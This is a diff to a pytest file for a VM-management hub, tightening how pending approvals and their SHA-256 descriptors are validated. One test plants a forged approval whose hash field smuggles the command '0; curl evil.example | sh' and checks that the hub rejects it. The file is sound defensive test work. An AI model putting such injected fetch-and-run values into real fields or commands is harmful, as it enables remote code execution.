@@ -14,6 +14,7 @@ import urllib.request
 from collections.abc import Iterator
 from pathlib import Path
 
+import grpc
 import pytest
 
 from hub.store import SqliteStore
@@ -162,9 +163,10 @@ def report(hub: Hub, node: str, guests: list[pb.GuestState], *, interval: float 
 
 def waiting(node: str, vmid: int, kind: str) -> pb.PendingApproval:
     """An approval ``node`` reports waiting on ``vmid``."""
-    sha = hashlib.sha256(f"{vmid}{kind}".encode()).hexdigest()
+    descriptor = f'{{"vmid": {vmid}, "kind": "{kind}"}}'.encode()
     return pb.PendingApproval(node=node, vmid=vmid, op_kind=kind, action_class="DESTRUCTIVE", rule="r",
-                              reasons=[EVIL], descriptor=b"{}", descriptor_sha256=sha, audience=node)
+                              reasons=[EVIL], descriptor=descriptor,
+                              descriptor_sha256=hashlib.sha256(descriptor).hexdigest(), audience=node)
 
 
 def test_node_and_guest_pages_show_declared_against_actual_with_the_reason(hub: Hub) -> None:
@@ -220,17 +222,20 @@ def test_pending_approvals_each_show_the_command_that_signs_it_on_its_node(hub: 
     assert order == [("pve1@lab", "config.disk_detach"), ("pve1@lab", "z"), ("pve1@lab", "x"), ("pve2@lab", "y")]
     commands = re.findall(r"Or sign it on (\S+): pve-executor op sign --pending (\d) --key KEYFILE --role ROLE", seen)
     assert commands == [("pve1@lab", "1"), ("pve1@lab", "2"), ("pve1@lab", "3"), ("pve2@lab", "1")]
-    short = hashlib.sha256(b"400y").hexdigest()[:12]
+    short = hashlib.sha256(b'{"vmid": 400, "kind": "y"}').hexdigest()[:12]
     assert (f"send it through the hub: pve-hub pending --cluster lab --descriptor {short} --json > pending-{short}.json"
             f" && pve-executor op sign --key KEYFILE --role ROLE --out op-{short}.json pending-{short}.json && "
             f"pve-hub submit op-{short}.json --cluster lab --wait") in seen
     assert "4 pending approvals" in text_of(get(hub, url("clusters", CLUSTER))[2])
     forged = waiting("pve2@lab", 400, "y")
     forged.descriptor_sha256, forged.node = "0; curl evil.example | sh", "pve1@lab"  # a node's lies
-    report(hub, "pve2@lab", [pb.GuestState(vmid=400, name="c", state=pb.SYNC_STATE_PENDING_APPROVAL, pending=[forged])],
-           seq=2)
+    with pytest.raises(grpc.RpcError) as refused:  # never stored, so never inside a command
+        report(hub, "pve2@lab", [pb.GuestState(vmid=400, name="c", state=pb.SYNC_STATE_PENDING_APPROVAL,
+                                               pending=[forged])], seq=2)
+    assert refused.value.code() == grpc.StatusCode.INVALID_ARGUMENT
+    assert "guests[0].pending[0].descriptor_sha256" in str(refused.value.details())
     seen = text_of(get(hub, url("clusters", CLUSTER, "pending"))[2])
-    assert "curl" not in seen.split("malformed descriptor sha256")[1]  # never inside a command
+    assert "curl" not in seen
     assert "pve2@lab · guest 400 · y DESTRUCTIVE" in seen  # the node the hub heard it from, whatever it claims
 
 
